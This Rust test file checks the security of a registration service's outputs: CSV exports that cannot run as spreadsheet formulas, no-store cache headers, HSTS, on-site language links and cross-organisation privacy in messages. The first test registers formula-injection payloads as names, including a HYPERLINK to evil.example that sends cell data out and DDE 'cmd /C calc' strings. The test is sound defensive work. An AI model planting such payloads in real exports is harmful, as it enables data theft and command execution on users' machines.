//! Safety of what leaves the service: exports that a spreadsheet cannot run, headers
//! that keep personal pages out of caches and browsers on HTTPS, links that stay
//! on-site, and messages that do not tell one organisation about another's sessions.

use crate::common;

use actix_web::http::StatusCode;
use actix_web::test::TestRequest;
use common::TestApp;
use common::fixtures::{self, in_days};
use common::staff::{self, Browser};
use serde_json::json;

/// Registers through the public JSON API, as anyone on the Internet can.
async fn register_publicly(app: &TestApp, session: i64, body: serde_json::Value) {
    let r = app
        .call(
            TestRequest::post()
                .uri(&format!("/api/v1/sessions/{session}/registrations"))
                .set_json(body),
        )
        .await;
    assert!(r.status.is_success(), "{}", r.text());
}

on_both_backends! {
    async fn exported_names_cannot_run_in_a_spreadsheet_and_phones_still_read_as_phones(app: TestApp) {
        let (event, s) = app.with_conn(|c| {
            let b = fixtures::base(c);
            staff::user(c, "editor@example.org", "editor", Some(b.organisation_id));
            (b.event_id, fixtures::session(c, &b, "Apprivoiser sa tablette", in_days(7), |s| s.capacity = Some(20)))
        });
        let hostile = [
            ("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Cliquez\")", "a@example.org", ""),
            ("+1+cmd|' /C calc'!A0", "b@example.org", "+1 819 555 0100"),
            ("-2+3+cmd|' /C notepad'!A0", "c@example.org", "+1 (450) 555-0000 poste 12"),
            ("@SUM(1+9)*cmd|' /C calc'!A0", "d@example.org", "+33 1 23 45 67 89"),
        ];
        for (name, email, phone) in hostile {
            let mut body = json!({"name": name, "email": email, "consent": true});
            if !phone.is_empty() {
                body["phone"] = json!(phone);
            }
            register_publicly(&app, s, body).await;
        }
        let mut br = Browser::signed_in(&app, "editor@example.org");
        for path in [format!("/admin/sessions/{s}/export.csv"), format!("/admin/events/{event}/export.csv?sep=comma")] {
            let r = br.get(&path).await;
            assert_eq!(r.status, StatusCode::OK, "{path}");
            let text = String::from_utf8(r.body[3..].to_vec()).unwrap();
            let sep = if path.contains("comma") { ',' } else { ';' };
            let rows = parse_csv(&text, sep);
            assert_eq!(rows.len(), 5, "{path}: header and four people");
            for row in &rows[1..] {
                for cell in row {
                    let first = cell.trim_start_matches(' ').chars().next();
                    assert!(
                        !matches!(first, Some('=' | '+' | '-' | '@' | '\t' | '\r')),
                        "{path}: a spreadsheet would run {cell:?}"
                    );
                }
            }
            let names: Vec<&str> = rows[1..].iter().map(|r| r[2].as_str()).collect();
            for (name, _, _) in hostile {
                assert!(names.contains(&format!("'{name}").as_str()), "{path}: {name} kept whole behind an apostrophe: {names:?}");
            }
            let phones: Vec<&str> = rows[1..].iter().map(|r| r[4].as_str()).collect();
            assert!(phones.contains(&"819 555-0100"), "{path}: {phones:?}");
            assert!(phones.contains(&"450 555-0000 poste 12"), "{path}: {phones:?}");
            assert!(phones.contains(&"'+33 1 23 45 67 89"), "{path}: {phones:?}");
        }
    }
}

/// A small RFC 4180 reader (quotes, doubled quotes, CRLF rows), independent of the
/// writer under test.
fn parse_csv(text: &str, sep: char) -> Vec<Vec<String>> {
    let mut rows = Vec::new();
    let mut row = Vec::new();
    let mut cell = String::new();
    let mut quoted = false;
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        match (quoted, c) {
            (true, '"') if chars.peek() == Some(&'"') => {
                chars.next();
                cell.push('"');
            }
            (true, '"') => quoted = false,
            (true, c) => cell.push(c),
            (false, '"') if cell.is_empty() => quoted = true,
            (false, c) if c == sep => row.push(std::mem::take(&mut cell)),
            (false, '\r') if chars.peek() == Some(&'\n') => {
                chars.next();
                row.push(std::mem::take(&mut cell));
                rows.push(std::mem::take(&mut row));
            }
            (false, c) => cell.push(c),
        }
    }
    if !cell.is_empty() || !row.is_empty() {
        row.push(cell);
        rows.push(row);
    }
    rows
}

/// The manage link a first registration answers with, as a path.
async fn manage_path(app: &TestApp, session: i64, email: &str) -> String {
    let r = app
        .call(
            TestRequest::post()
                .uri(&format!("/api/v1/sessions/{session}/registrations"))
                .set_json(json!({"name": "Gisèle Tremblay", "email": email, "consent": true})),
        )
        .await;
    assert_eq!(r.status, StatusCode::CREATED, "{}", r.text());
    let url = r.json()["manage_url"].as_str().unwrap().to_owned();
    url.strip_prefix(&app.state.settings.base_url)
        .unwrap()
        .to_owned()
}

on_both_backends! {
    async fn answers_with_personal_data_or_secrets_are_never_stored(app: TestApp) {
        let (event, s) = app.with_conn(|c| {
            let b = fixtures::base(c);
            staff::user(c, "editor@example.org", "editor", Some(b.organisation_id));
            (b.event_id, fixtures::session(c, &b, "Apprivoiser sa tablette", in_days(7), |_| {}))
        });
        let manage = manage_path(&app, s, "gisele@example.org").await;
        let token = manage.strip_prefix("/r/").unwrap().to_owned();
        let mut anonymous = Browser::new(&app);
        anonymous.post("/admin/password/forgot", &[("email", "editor@example.org")]).await;
        let reset = app.with_conn(|c| {
            use babillard::db::schema::outbox;
            use diesel::prelude::*;
            let payload: String = outbox::table.filter(outbox::kind.eq("password_reset")).select(outbox::payload).first(c).unwrap();
            let link = serde_json::from_str::<serde_json::Value>(&payload).unwrap()["link"].as_str().unwrap().to_owned();
            link.strip_prefix(&app.state.settings.base_url).unwrap().to_owned()
        });
        for path in [
            manage.clone(),
            format!("{manage}/cancel"),
            format!("{manage}/delete"),
            format!("{manage}/data.json"),
            format!("{manage}/calendar.ics"),
            format!("/api/v1/registrations/{token}"),
            "/admin/sign-in".to_owned(),
            "/admin/password/forgot".to_owned(),
            reset,
            "/r/not-a-real-token-at-all-xxxxxxxxx".to_owned(),
        ] {
            let r = anonymous.get(&path).await;
            let cache = r.header("cache-control").unwrap_or_default();
            assert!(cache.split(',').any(|d| d.trim() == "no-store"), "GET {path} ({}): {cache}", r.status);
        }
        let mut editor = Browser::signed_in(&app, "editor@example.org");
        for path in [
            "/admin".to_owned(),
            format!("/admin/sessions/{s}/registrations"),
            format!("/admin/sessions/{s}/door"),
            format!("/admin/sessions/{s}/export.csv"),
            format!("/admin/events/{event}/export.csv"),
            format!("/admin/events/{event}"),
        ] {
            let r = editor.get(&path).await;
            assert_eq!(r.status, StatusCode::OK, "{path}");
            assert_eq!(r.header("cache-control").as_deref(), Some("no-store"), "GET {path}");
        }
        let bearer = staff::token(&app, "editor@example.org");
        for path in [format!("/api/v1/sessions/{s}/roster"), "/api/v1/me".to_owned()] {
            let r = staff::api(&app, "get", &path, Some(&bearer), None).await;
            assert_eq!(r.status, StatusCode::OK, "{path}");
            assert_eq!(r.header("cache-control").as_deref(), Some("no-store"), "GET {path}");
        }
        // Public pages stay cacheable: the rule is aimed, not blanket.
        for path in ["/".to_owned(), format!("/sessions/{s}"), "/calendar.ics".to_owned()] {
            let r = app.get(&path).await;
            assert_ne!(r.header("cache-control").as_deref(), Some("no-store"), "GET {path}");
        }
    }
}

#[actix_web::test]
async fn browsers_are_told_to_keep_to_https_only_when_the_site_is_on_https() {
    let plain = TestApp::sqlite().await;
    assert_eq!(
        plain.get("/").await.header("strict-transport-security"),
        None
    );
    let tls = TestApp::build(common::Backend::Sqlite, |s| {
        s.base_url = "https://babillard.example".into()
    })
    .await;
    for path in [
        "/",
        "/calendar",
        "/admin/sign-in",
        "/nowhere",
        "/api/v1/sessions",
    ] {
        assert_eq!(
            tls.get(path)
                .await
                .header("strict-transport-security")
                .as_deref(),
            Some("max-age=31536000; includeSubDomains"),
            "{path}"
        );
    }
}

#[actix_web::test]
async fn the_language_link_of_a_missing_page_stays_on_this_site() {
    let app = TestApp::sqlite().await;
    for path in [
        "//evil.example",
        "//evil.example/chemin?x=1",
        "///evil.example",
        "/%2F%2Fevil.example",
    ] {
        for lang in ["", "lang=en"] {
            let sep = if path.contains('?') { '&' } else { '?' };
            let uri = if lang.is_empty() {
                path.to_owned()
            } else {
                format!("{path}{sep}{lang}")
            };
            let r = app.get(&uri).await;
            assert_eq!(r.status, StatusCode::NOT_FOUND, "{uri}");
            let html = r.text();
            let hrefs: Vec<&str> = html
                .split("href=\"")
                .skip(1)
                .map(|rest| &rest[..rest.find('"').unwrap()])
                .collect();
            let switch = hrefs
                .iter()
                .find(|h| h.contains("lang="))
                .unwrap_or_else(|| panic!("{uri}: no language link in {hrefs:?}"));
            assert!(
                switch.starts_with('/') && !switch.starts_with("//") && !switch.starts_with("/\\"),
                "{uri}: the language link {switch} leaves the site"
            );
            for h in &hrefs {
                assert!(!h.starts_with("//"), "{uri}: {h} leads off-site");
            }
        }
    }
}

on_both_backends! {
    async fn a_trainer_clash_with_another_organisation_names_the_time_not_the_session(app: TestApp) {
        use babillard::db::schema::*;
        use diesel::prelude::*;
        let (trainer, here_overlap, here_close) = app.with_conn(|c| {
            let ours = fixtures::base_named(c, "biblio");
            let theirs = fixtures::base_named(c, "voisine");
            staff::user(c, "editor@example.org", "editor", Some(ours.organisation_id));
            let t = staff::trainer(c, "volant", ours.organisation_id, None);
            diesel::insert_into(trainer_organisations::table)
                .values((trainer_organisations::trainer_id.eq(t), trainer_organisations::organisation_id.eq(theirs.organisation_id)))
                .execute(c)
                .unwrap();
            // 9 h to 10 h 30 for the other organisation, under a title that is theirs.
            let secret = fixtures::session(c, &theirs, "Atelier confidentiel du CLSC", fixtures::utc("2026-06-10 13:00"), |_| {});
            staff::assign(c, secret, t);
            let overlap = fixtures::session(c, &ours, "Tablette 101", fixtures::utc("2026-06-10 14:00"), |_| {});
            let close = fixtures::session(c, &ours, "Courriel 101", fixtures::utc("2026-06-10 14:50"), |_| {});
            (t, overlap, close)
        });
        let mut br = Browser::signed_in(&app, "editor@example.org");
        let r = br.post(&format!("/admin/sessions/{here_overlap}/trainers"), &[("trainer_id", &trainer.to_string())]).await;
        assert_eq!(r.status, StatusCode::CONFLICT);
        let html = r.text();
        assert!(!html.contains("confidentiel"), "{html}");
        assert!(html.contains("une activité d&#39;un autre organisme au même moment (mercredi 10 juin 2026, 9\u{a0}h à 10\u{a0}h\u{a0}30)"), "{html}");
        let token = staff::token(&app, "editor@example.org");
        let r = staff::api(&app, "post", &format!("/api/v1/sessions/{here_close}/trainers"), Some(&token), Some(json!({"trainer_id": trainer}))).await;
        assert_eq!(r.status, StatusCode::CONFLICT);
        let msg = r.json()["error"]["message"].as_str().unwrap().to_owned();
        assert!(!msg.contains("confidentiel"), "{msg}");
        assert!(msg.contains("autre organisme dans un autre lieu (mercredi 10 juin 2026, 9\u{a0}h à 10\u{a0}h\u{a0}30)") && msg.contains("20 minutes"), "{msg}");
    }
}
